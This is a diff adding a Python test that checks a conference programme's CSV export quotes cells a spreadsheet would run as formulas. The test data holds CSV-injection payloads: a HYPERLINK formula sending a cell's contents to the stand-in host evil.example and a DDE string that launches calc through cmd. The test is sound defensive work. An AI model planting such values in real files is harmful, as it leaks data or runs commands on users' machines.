@@ -55,6 +55,26 @@ def test_csv_has_every_session_with_capacity_and_fill() -> None:
     assert first["day"] == "2024-06-25" and first["start"] == "09:30"
 
 
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted() -> None:
+    programme = small_rooms()
+    hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
+    sessions = list(programme.sessions)
+    for i, title in enumerate(hostile):
+        sessions[i] = replace(sessions[i], title=title)
+    sessions[4] = replace(sessions[4], title="\t=1+1", id="=cmd|calc", room_id="rodrigo")
+    rooms = tuple(replace(r, name="\r=2+2") if r.id == "rodrigo" else r for r in programme.rooms)
+    programme = replace(programme, sessions=tuple(sessions), rooms=rooms)
+    table = list(csv.DictReader(io.StringIO(demand_csv(demand(programme, {}), programme).decode("utf-8-sig"))))
+    titles = {row["title"] for row in table}
+    assert {"'" + t for t in hostile} <= titles  # shown as the text it is, never run
+    assert "'\t=1+1" in titles
+    assert {row["session_id"] for row in table if row["title"] == "'\t=1+1"} == {"'=cmd|calc"}
+    assert {row["room"] for row in table if row["room"].endswith("=2+2")} == {"'\r=2+2"}
+    cells = [cell for row in table for cell in row.values()]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "Sala José Iturbi" in {row["room"] for row in table}  # ordinary text is untouched
+
+
 def test_chart_is_a_png_image() -> None:
     programme = small_rooms()
     png = demand_chart(demand(programme, {"cmc24-d1-inaugural": 3, "cmc24-connecting-missions": 5}), LABELS)
